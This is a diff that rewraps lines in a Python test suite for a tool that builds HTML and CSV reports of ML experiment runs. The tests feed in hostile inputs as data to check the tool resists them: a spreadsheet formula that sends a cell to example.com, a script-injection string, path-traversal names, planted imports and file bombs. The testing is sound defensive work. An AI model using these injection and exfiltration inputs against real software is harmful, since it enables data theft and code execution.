@@ -98,10 +98,14 @@ def test_no_setting_imports_anything(run, tmp_path, monkeypatch):
     monkeypatch.syspath_prepend(str(tmp_path))
     mark = tmp_path / "it_ran"
     (tmp_path / "planted").mkdir()
-    (tmp_path / "planted" / "__init__.py").write_text(f"__import__('pathlib').Path({str(mark)!r}).touch()")
+    (tmp_path / "planted" / "__init__.py").write_text(
+        f"__import__('pathlib').Path({str(mark)!r}).touch()"
+    )
     (tmp_path / "planted" / "part.py").write_text('"""Found."""')
     parts = {name: {"_target_": "planted.part.Thing"} for name in ("gate_importance", "svcca")}
-    (run / "config" / "config.yaml").write_text(json.dumps({"measure": parts, "_target_": "planted.part.Thing"}))
+    (run / "config" / "config.yaml").write_text(
+        json.dumps({"measure": parts, "_target_": "planted.part.Thing"})
+    )
     assert "Found." not in page_of(run)
     write_comparison(read_runs([run, run]), tmp_path / "c.html")
     assert not mark.exists() and not [name for name in sys.modules if name.startswith("planted")]
@@ -127,7 +131,9 @@ LINKS: dict[str, Callable[[Path, Path], None]] = {
     "the folder of tables": lambda run, mine: relinked(run / "tables", mine),
     "the metrics": lambda run, mine: relinked(run / "metrics.json", mine / "keys.json"),
     "the facts": lambda run, mine: relinked(run / "run.json", mine / "keys.json"),
-    "what describes the weights": lambda run, mine: relinked(run / "model.json", mine / "keys.json"),
+    "what describes the weights": lambda run, mine: relinked(
+        run / "model.json", mine / "keys.json"
+    ),
     "a figure": lambda run, mine: relinked(run / "figures" / "svcca.png", mine / "keys.csv"),
     "the settings": lambda run, mine: relinked(run / "config" / "config.yaml", mine / "keys.json"),
     "maps": lambda run, mine: relinked(run / "maps.safetensors", mine / "keys.json"),
@@ -167,8 +173,21 @@ def test_a_ledger_that_is_a_link_is_refused_and_a_job_that_is_one_is_no_job(run,
     assert [job.name for job in expand([sweep])] == ["0"]
 
 
-FILES = ["results.json", "metrics.json", "run.json", "model.json", "config/config.yaml", "config/overrides.yaml"]
-FILES += ["tables/svcca.csv", "figures/svcca.png", "maps.safetensors", "attention.safetensors", "outcomes.safetensors"]
+FILES = [
+    "results.json",
+    "metrics.json",
+    "run.json",
+    "model.json",
+    "config/config.yaml",
+    "config/overrides.yaml",
+]
+FILES += [
+    "tables/svcca.csv",
+    "figures/svcca.png",
+    "maps.safetensors",
+    "attention.safetensors",
+    "outcomes.safetensors",
+]
 
 
 @pytest.mark.parametrize("how", ["pipe", "folder", "endless"])
@@ -185,7 +204,9 @@ def test_what_is_no_ordinary_file_is_not_opened(run, name, how, tmp_path):
         path.symlink_to("/dev/zero")
     with in_time():
         try:
-            assert name in page_of(run) or name == "outcomes.safetensors"  # it is named, among what could not be read
+            assert (
+                name in page_of(run) or name == "outcomes.safetensors"
+            )  # it is named, among what could not be read
         except UserError as error:
             assert name == "results.json" and name in str(error) and "\n" not in str(error)
         with contextlib.suppress(UserError):
@@ -226,8 +247,14 @@ KEPT: dict[str, tuple[str, dict[str, str]]] = {
     "a site that has no map": ("attention", {"queries": '{"the class token": ["nowhere"]}'}),
     "a title that is a number": ("attention", {"titles": "3"}),
     "heads that are no JSON": ("maps", {"heads": "{"}),
-    "a head that is a word": ("maps", {"heads": '{"attention/block 2 head 0": ["attention maps", "eight"]}'}),
-    "a head that has no map": ("maps", {"heads": '{"attention/block 9 head 0": ["attention maps", 8]}'}),
+    "a head that is a word": (
+        "maps",
+        {"heads": '{"attention/block 2 head 0": ["attention maps", "eight"]}'},
+    ),
+    "a head that has no map": (
+        "maps",
+        {"heads": '{"attention/block 9 head 0": ["attention maps", 8]}'},
+    ),
 }
 
 
@@ -254,7 +281,9 @@ BOMBS: dict[str, Callable[[Path], Any]] = {
     "a picture": picture,
     "names that are no text": undecodable,
     "a billion heads": many,
-    "a long number": lambda run: (run / "metrics.json").write_text(f'{{"test/accuracy": {"9" * 100_000}}}'),
+    "a long number": lambda run: (run / "metrics.json").write_text(
+        f'{{"test/accuracy": {"9" * 100_000}}}'
+    ),
     "a large file": lambda run: os.truncate(run / "tables" / "svcca.csv", 10**10),
 }
 
@@ -269,9 +298,13 @@ def test_what_is_small_on_disk_stays_small(run, name):
 def test_a_spreadsheet_finds_no_formula_in_tables_of_runs(whole, tmp_path, monkeypatch):
     """S5: a setting of somebody's run stood in runs.csv and grid.csv as a formula, which a spreadsheet runs."""
     formula = '=HYPERLINK("https://example.com/?"&A1, "click")'
-    for job, (lr, name) in enumerate([("0.1", formula), ("0.2", formula), ("0.1", "@SUM(1)"), ("-0.2", "plain")]):
+    for job, (lr, name) in enumerate(
+        [("0.1", formula), ("0.2", formula), ("0.1", "@SUM(1)"), ("-0.2", "plain")]
+    ):
         run = shutil.copytree(whole, tmp_path / "sweep" / str(job))
-        (run / "config" / "config.yaml").write_text(yaml.safe_dump({"seed": job, "lr": lr, "=name": name}))
+        (run / "config" / "config.yaml").write_text(
+            yaml.safe_dump({"seed": job, "lr": lr, "=name": name})
+        )
     out = tmp_path / "out"
     monkeypatch.setattr(sys, "argv", ["compare", str(tmp_path / "sweep"), "--out", str(out)])
     mhprobe.compare.main()
@@ -288,7 +321,11 @@ def test_the_pages_scripts_run_by_their_hashes(whole, tmp_path):
         Page(page_of(whole)),
         Page(write_comparison(read_runs([whole, whole]), tmp_path / "c.html").read_text()),
     ):
-        (policy,) = [a["content"] for _, a in page.elements if a.get("http-equiv") == "Content-Security-Policy"]
+        (policy,) = [
+            a["content"]
+            for _, a in page.elements
+            if a.get("http-equiv") == "Content-Security-Policy"
+        ]
         rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
         assert rules["default-src"] == "'none'" and "unsafe" not in rules["script-src"]
         hashes = rules["script-src"].split()
@@ -326,13 +363,38 @@ def test_outcomes_that_contradict_the_metrics_are_none(run):
     assert "170" not in Page(page_of(run)).text and "expected a share" in Page(page_of(run)).text
 
 
-WEIRD: list[Any] = [None, -1, 1e308, 10**30, 0.5, True, "", "x" * 10_000, "../../mine/keys.csv", "\ud800", [], {}, [[]]]
-WEIRD += [{"a": {"b": [1]}}, "</script><script>alert(1)</script>", "tables/../../../mine/keys.csv", "NaN"]
+WEIRD: list[Any] = [
+    None,
+    -1,
+    1e308,
+    10**30,
+    0.5,
+    True,
+    "",
+    "x" * 10_000,
+    "../../mine/keys.csv",
+    "\ud800",
+    [],
+    {},
+    [[]],
+]
+WEIRD += [
+    {"a": {"b": [1]}},
+    "</script><script>alert(1)</script>",
+    "tables/../../../mine/keys.csv",
+    "NaN",
+]
 
 
 def nodes(value: Any) -> Iterator[tuple[Any, Any]]:
     """Every place in plain values, as its container and key."""
-    for key in list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
+    for key in (
+        list(value)
+        if isinstance(value, dict)
+        else range(len(value))
+        if isinstance(value, list)
+        else ()
+    ):
         yield value, key
         yield from nodes(value[key])
 
@@ -362,9 +424,13 @@ def damaged(run: Path, secret: Path, rng: np.random.Generator) -> str:
             elif becomes == "a folder":
                 path.mkdir()
         elif how == 3 and path.suffix == ".csv":
-            rows = [line.split(",") for line in path.read_text(errors="replace").splitlines()] or [[""]]
+            rows = [line.split(",") for line in path.read_text(errors="replace").splitlines()] or [
+                [""]
+            ]
             row = rows[int(rng.integers(len(rows)))]
-            row[int(rng.integers(len(row)))] = str(WEIRD[int(rng.integers(len(WEIRD) - 4))]).replace("\ud800", "?")
+            row[int(rng.integers(len(row)))] = str(
+                WEIRD[int(rng.integers(len(WEIRD) - 4))]
+            ).replace("\ud800", "?")
             path.write_text("\n".join(",".join(cells) for cells in rows))
         else:
             data = bytearray(path.read_bytes() or b"x")
@@ -389,7 +455,9 @@ def test_no_damaged_folder_gives_a_traceback_hangs_or_leaks(whole, secret, tmp_p
             assert "<script>alert" not in text, done
         except UserError as error:
             refused += 1
-            assert "\n" not in str(error) and len(str(error)) < 1000 and SECRET not in str(error), done
+            assert "\n" not in str(error) and len(str(error)) < 1000 and SECRET not in str(error), (
+                done
+            )
         except (Exception, Hang) as error:
             raise AssertionError(f"{number}: {done}: {error!r}") from error
         shutil.rmtree(run)
